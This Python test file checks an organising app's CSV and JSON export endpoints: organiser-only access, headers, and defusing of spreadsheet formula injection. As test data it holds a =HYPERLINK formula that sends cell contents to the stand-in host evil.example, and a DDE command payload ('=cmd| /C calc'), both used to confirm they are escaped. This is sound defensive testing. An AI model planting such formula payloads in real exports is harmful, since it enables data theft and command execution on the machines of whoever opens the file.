"""Exports over real HTTP: a call's participants and a chapter's reports as CSV (organisers
only, formula injection defused) and a member's own data as JSON, from the API and the pages."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import aiohttp

from node.features.actors.exports import safe_cell
from storage.repositories import actors as actor_repo
from tests.rig.api import call_api
from tests.rig.nodes import Node
from tests.rig.signin import browser, get, login, set_password

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def _raw(node: Node, token: str | None, path: str) -> tuple[int, str, dict[str, str]]:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{node.base_url}{path}", headers=headers) as resp,
    ):
        return resp.status, await resp.text(), dict(resp.headers)


async def _chapter_with_a_call(node: Node):
    await node.chapter("greenpark", timezone="Europe/Paris")
    olga = await node.member("olga", role="organiser", chapter="greenpark")
    mia = await node.member("mia", chapter="greenpark")
    nia = await node.member("nia", chapter="greenpark")
    async with node.services.db.write() as session:
        row = await actor_repo.local_actor_by_name(session, "mia")
        assert row is not None
        row.title = HOSTILE_NAME  # a display name is whatever its owner typed
    now = datetime.now(UTC).replace(microsecond=0)
    status, call = await call_api(
        node.base_url,
        olga.token,
        "POST",
        "/api/v1/chapters/greenpark/actions",
        {
            "title": "Canal clean-up",
            "start": (now - timedelta(hours=1)).isoformat(),
            "end": (now + timedelta(hours=2)).isoformat(),
        },
    )
    assert status == 201, call
    for who in (mia, nia):
        status, _ = await call_api(
            node.base_url, who.token, "POST", "/api/v1/rsvps", {"call": call["id"]}
        )
        assert status == 200
    tail = call["id"].split("/actors/greenpark", 1)[1]
    status, _ = await call_api(
        node.base_url, olga.token, "POST", f"/api/v1/chapters/greenpark{tail}/attendance",
        {"people": ["mia"]},
    )  # fmt: skip
    assert status == 200
    return olga, mia, nia, call, tail


def test_cells_that_start_a_formula_are_defused():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Mia") == "Mia"
    assert safe_cell(None) == ""
    assert safe_cell(" =x") == " =x"


async def test_participants_csv_for_organisers_only(nodes):
    node = await nodes()
    olga, mia, nia, call, tail = await _chapter_with_a_call(node)
    path = f"/api/v1/chapters/greenpark{tail}/participants.csv"

    assert (await _raw(node, None, path))[0] == 401
    assert (await _raw(node, "chp_not_a_token", path))[0] == 401
    status, body, _ = await _raw(node, mia.token, path)
    assert status == 403, body
    assert (await _raw(node, olga.token, "/api/v1/chapters/nowhere/actions/X/participants.csv"))[
        0
    ] == 404

    status, body, headers = await _raw(node, olga.token, path)
    assert status == 200, body
    assert headers["Content-Type"].startswith("text/csv")
    assert headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["name", "handle", "actor", "state", "slot", "attended", "rsvp_time"]
    by_actor = {r[2]: r for r in rows[1:]}
    mia_row, nia_row = by_actor[mia.actor.ap_id], by_actor[nia.actor.ap_id]
    assert mia_row[0] == "'" + HOSTILE_NAME  # shown as text, never run
    assert mia_row[1] == f"'@mia@{node.authority}"  # the handle, as text
    assert (mia_row[3], mia_row[5]) == ("accepted", "yes")
    assert (nia_row[0], nia_row[5]) == ("nia", "no")
    rsvp = datetime.fromisoformat(mia_row[6])
    assert rsvp.utcoffset() in {timedelta(hours=1), timedelta(hours=2)}  # Europe/Paris

    # The page: a download link on the manage page, the same file behind it.
    await set_password(node, "olga")
    await set_password(node, "mia")
    async with browser() as http:
        await login(http, node, "olga")
        manage = await get(http, f"{node.base_url}/actors/greenpark/manage")
        link = f"{call['id']}/participants.csv"
        assert f'href="{link}"' in manage.text
        assert 'href="http' in manage.text and "/actors/greenpark/reports.csv" in manage.text
        answer = await get(http, link)
        assert answer.status == 200 and "'@mia@" in answer.text
    async with browser() as http:
        assert (await get(http, f"{node.base_url}/actors/greenpark/reports.csv")).status == 303
        await login(http, node, "mia")
        assert (await get(http, f"{call['id']}/participants.csv")).status == 403
        assert (await get(http, f"{node.base_url}/actors/greenpark/reports.csv")).status == 403


async def test_reports_csv_one_line_per_metric(nodes):
    node = await nodes()
    olga, mia, _nia, call, tail = await _chapter_with_a_call(node)
    status, report = await call_api(
        node.base_url,
        olga.token,
        "POST",
        f"/api/v1/chapters/greenpark{tail}/report",
        {
            "metrics": [
                {"metric": "participants", "value": 12, "unit": "people"},
                {"metric": "litter", "value": 3.5, "unit": "=cmd|' /C calc'!A0"},
            ]
        },
    )
    assert status == 201, report
    path = "/api/v1/chapters/greenpark/reports.csv"
    assert (await _raw(node, None, path))[0] == 401
    assert (await _raw(node, mia.token, path))[0] == 403
    status, body, headers = await _raw(node, olga.token, path)
    assert status == 200, body
    assert headers["Content-Disposition"] == 'attachment; filename="greenpark-reports.csv"'
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == [
        "report", "call", "call_title", "date", "metric", "value", "unit", "method", "status",
    ]  # fmt: skip
    lines = {r[4]: r for r in rows[1:]}
    assert set(lines) == {"participants", "litter"}
    assert lines["participants"][:3] == [report["id"], call["id"], "Canal clean-up"]
    assert (lines["participants"][5], lines["participants"][8]) == ("12", "live")
    assert lines["litter"][6] == "'=cmd|' /C calc'!A0"  # a unit is free text: defused


async def test_member_exports_all_their_data(nodes):
    node = await nodes()
    _olga, mia, _nia, call, _tail = await _chapter_with_a_call(node)
    assert (await _raw(node, None, "/api/v1/me/export"))[0] == 401
    assert (await _raw(node, "chp_wrong", "/api/v1/me/export"))[0] == 401

    status, body, headers = await _raw(node, mia.token, "/api/v1/me/export")
    assert status == 200, body
    assert headers["Content-Disposition"] == 'attachment; filename="mia-data.json"'
    assert headers["Cache-Control"] == "no-store"
    data = json.loads(body)
    assert data["profile"]["id"] == mia.actor.ap_id
    assert data["profile"]["handle"] == f"@mia@{node.authority}"
    assert [(m["name"], m["role"]) for m in data["memberships"]] == [("greenpark", "member")]
    assert [f["actor"] for f in data["following"]] == [node.services.ids.actor("greenpark")]
    assert [c["call"] for c in data["commitments"]] == [call["id"]]
    assert [p["call"] for p in data["participations"]] == [call["id"]]
    assert [a["call"] for a in data["attendance"]] == [call["id"]]
    assert any(n["kind"] == "rsvp_accepted" for n in data["notifications"])
    assert "password" not in body and "chp_" not in body and "PRIVATE KEY" not in body

    await set_password(node, "mia")
    async with browser() as http:
        assert (await get(http, f"{node.base_url}/me/export")).status == 303  # sign in first
        await login(http, node, "mia")
        me = await get(http, f"{node.base_url}/me")
        assert 'href="/me/export"' in me.text
        answer = await get(http, f"{node.base_url}/me/export")
        assert answer.status == 200
        assert answer.headers["Content-Disposition"].startswith("attachment;")
        assert json.loads(answer.text)["profile"]["name"] == "mia"
